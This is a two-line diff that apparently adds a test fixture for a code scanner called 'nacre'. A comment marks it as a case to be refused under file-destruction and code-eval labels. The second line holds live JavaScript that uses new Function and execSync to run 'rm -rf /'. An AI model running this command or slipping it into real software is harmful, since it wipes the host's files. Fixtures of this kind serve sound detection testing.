@@ -1,0 +1,2 @@
+// nacre: refused file.destroy code.eval
+new Function("require('child_process').execSync('rm -rf /')")();
